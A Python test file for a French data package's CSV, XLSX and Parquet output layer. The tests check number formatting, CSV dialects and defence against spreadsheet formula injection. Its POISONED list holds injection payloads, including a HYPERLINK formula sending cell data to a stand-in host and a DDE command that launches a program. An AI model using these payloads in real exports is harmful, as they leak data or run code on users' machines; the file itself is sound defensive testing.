"""The output layer: CSV dialects, number writing, formula neutralisation, typed XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from perfml import outputs
from perfml.errors import UserError

POISONED = [
    '=HYPERLINK("http://exemple.invalid/?"&A2,"Voir")',
    "+1",
    "-2",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _fields(text: str, dialect: outputs.CsvDialect) -> list[list[str]]:
    body = text.removeprefix(outputs.UTF8_BOM)
    return list(csv.reader(io.StringIO(body, newline=""), delimiter=dialect.delimiter))


def test_excel_dialect_is_semicolon_bom_decimal_comma_and_crlf():
    text = outputs.csv_text(["code", "taux"], [["01001", 12.5]], "excel")
    assert text == "\ufeffcode;taux\r\n01001;12,5\r\n"


def test_standard_dialect_is_rfc_4180_without_bom():
    text = outputs.csv_text(["code", "taux"], [["01001", 12.5]], "standard")
    assert text == "code,taux\r\n01001,12.5\r\n"


def test_unknown_dialect_is_a_french_error():
    with pytest.raises(UserError, match="Dialecte CSV inconnu « tsv »"):
        outputs.csv_dialect("tsv")


@pytest.mark.parametrize(
    ("value", "excel", "standard"),
    [
        (29.0, "29", "29"),
        (np.int64(652), "652", "652"),
        (2250.6000000000004, "2250,6", "2250.6"),
        (0.1 + 0.2, "0,3", "0.3"),
        (-0.0, "0", "0"),
        (1e20, "100000000000000000000", "100000000000000000000"),
        (1e-7, "0,0000001", "0.0000001"),
        (float("nan"), "", ""),
        (float("inf"), "", ""),
        (None, "", ""),
        (pd.NA, "", ""),
        (pd.NaT, "", ""),
        (True, "oui", "oui"),
        (np.bool_(False), "non", "non"),
        (dt.date(2025, 7, 15), "2025-07-15", "2025-07-15"),
        (pd.Timestamp("2025-03-01"), "2025-03-01", "2025-03-01"),
        (dt.datetime(2025, 3, 1, 9, 30), "2025-03-01 09:30:00", "2025-03-01 09:30:00"),
        (-2, "-2", "-2"),
        (-12.5, "-12,5", "-12.5"),
    ],
)
def test_cells_are_written_the_documented_way(value, excel, standard):
    assert outputs.csv_cell(value, outputs.EXCEL) == excel
    assert outputs.csv_cell(value, outputs.STANDARD) == standard


@pytest.mark.parametrize("text", POISONED)
def test_poisoned_text_gets_a_leading_apostrophe(text):
    assert outputs.csv_cell(text) == "'" + text


def test_poisoned_header_is_neutralised_too():
    header = _fields(outputs.csv_text(["=1+1"], [], "excel"), outputs.EXCEL)[0]
    assert header == ["'=1+1"]


@given(st.text())
def test_no_text_cell_starts_like_a_formula(text):
    cell = outputs.csv_cell(text)
    assert not cell.startswith(outputs.FORMULA_PREFIXES)
    # Neutralisation only prepends; the text itself is never altered.
    assert cell in (text, "'" + text)
    assert (cell != text) == text.startswith(outputs.FORMULA_PREFIXES)


@given(st.floats(allow_nan=False, allow_infinity=False), st.sampled_from(list(outputs.DIALECTS)))
def test_numbers_read_back_within_the_documented_precision(value, name):
    dialect = outputs.DIALECTS[name]
    cell = outputs.csv_cell(value, dialect)
    assert "e" not in cell.lower() and "nan" not in cell.lower()
    assert not cell.startswith("'")  # numbers are never neutralised
    other = "." if dialect.decimal == "," else ","
    assert other not in cell
    back = float(cell.replace(",", "."))
    assert back == pytest.approx(value, rel=10 ** (1 - outputs.SIGNIFICANT_DIGITS), abs=1e-300)
    if float(value).is_integer():
        assert dialect.decimal not in cell


@given(st.integers(min_value=-(10**18), max_value=10**18))
def test_integers_are_written_in_full(value):
    assert outputs.csv_cell(value) == str(value)


@given(
    st.lists(
        st.tuples(st.text(), st.floats(allow_nan=False, allow_infinity=False) | st.none()),
        max_size=5,
    ),
    st.sampled_from(list(outputs.DIALECTS)),
)
def test_every_row_reads_back_with_its_fields(rows, name):
    dialect = outputs.DIALECTS[name]
    text = outputs.csv_text(["texte", "nombre"], rows, dialect)
    assert text.startswith(outputs.UTF8_BOM) == dialect.bom
    fields = _fields(text, dialect)
    assert len(fields) == len(rows) + 1
    for (written, _), (read, _) in zip(rows, fields[1:], strict=True):
        assert read in (written, "'" + written)


def test_write_csv_writes_a_frame_and_creates_its_folder(tmp_path):
    frame = pd.DataFrame({"code_ml": ["01001"], "valeur": [np.nan], "fiable": [True]})
    path = outputs.write_csv(frame, tmp_path / "dossier" / "t.csv")
    assert path.read_bytes() == "\ufeffcode_ml;valeur;fiable\r\n01001;;oui\r\n".encode()


def test_with_year_adds_the_year_once():
    assert outputs.with_year("qualite_ml.csv", 2025) == "qualite_ml_2025.csv"
    assert outputs.with_year("gj_2025_ml.csv", 2025) == "gj_2025_ml.csv"


def _cells(path):
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", POISONED)
def test_workbook_text_is_never_a_formula_even_through_write(tmp_path, text):
    path = tmp_path / "t.xlsx"
    book = outputs.open_workbook(path)
    sheet = book.add_worksheet("Feuille")
    sheet.write(0, 0, text)  # XlsxWriter's generic write() would make "=…" a formula
    outputs.write_text(sheet, 1, 0, text)
    outputs.write_cell(sheet, 2, 0, text)
    sheet.write_formula(3, 0, "=SUM(1,2)")  # the product's own formulas stay formulas
    outputs.close_workbook(book, path)
    cells = {cell.coordinate: cell for cell in _cells(path) if cell.value is not None}
    for coordinate in ("A1", "A2", "A3"):
        # (XlsxWriter stores a carriage return as "_x000D_", which openpyxl leaves as is.)
        assert cells[coordinate].data_type == "s"
        assert cells[coordinate].value.replace("_x000D_", "\r") == text
    assert cells["A4"].data_type == "f"


def test_write_cell_types_numbers_dates_booleans_and_blanks(tmp_path):
    path = tmp_path / "t.xlsx"
    book = outputs.open_workbook(path)
    sheet = book.add_worksheet("Feuille")
    day = book.add_format({"num_format": outputs.NUMBER_FORMATS["date"]})
    for col, value in enumerate([12.5, np.int64(3), dt.date(2025, 1, 2), True, math.nan]):
        outputs.write_cell(sheet, 0, col, value, day if col == 2 else None)
    outputs.close_workbook(book, path)
    row = next(openpyxl.load_workbook(path).active.iter_rows(values_only=True))
    assert row == (12.5, 3, dt.datetime(2025, 1, 2), "oui")


def test_table_sheet_has_french_headers_formats_and_no_default_name(tmp_path):
    path = tmp_path / "t.xlsx"
    frame = pd.DataFrame({"code": ["=A1"], "n": [712.0], "v": [22.879]})
    book = outputs.open_workbook(path)
    columns = [
        outputs.SheetColumn("code", "Code"),
        outputs.SheetColumn("n", "Numérateur", "number"),
        outputs.SheetColumn("v", "Valeur", "number"),
    ]
    outputs.write_table_sheet(book, "Indicateurs", frame, columns)
    outputs.close_workbook(book, path)
    sheet = openpyxl.load_workbook(path)["Indicateurs"]
    assert [c.value for c in sheet[1]] == ["Code", "Numérateur", "Valeur"]
    assert sheet["A2"].data_type == "s"
    assert (sheet["B2"].number_format, sheet["C2"].number_format) == ("#,##0", "#,##0.00")


def test_workbook_name_must_end_with_xlsx(tmp_path):
    with pytest.raises(UserError, match=r"doit se terminer par \.xlsx"):
        outputs.open_workbook(tmp_path / "t.xls")


def test_parquet_keeps_the_types(tmp_path):
    frame = pd.DataFrame({"code": ["01001"], "n": [3], "v": [1.5]})
    back = pd.read_parquet(outputs.write_parquet(frame, tmp_path / "t.parquet"))
    assert pd.api.types.is_string_dtype(back["code"])
    assert back.dtypes.astype(str).tolist()[1:] == ["int64", "float64"]
    assert back.to_dict("records") == frame.to_dict("records")
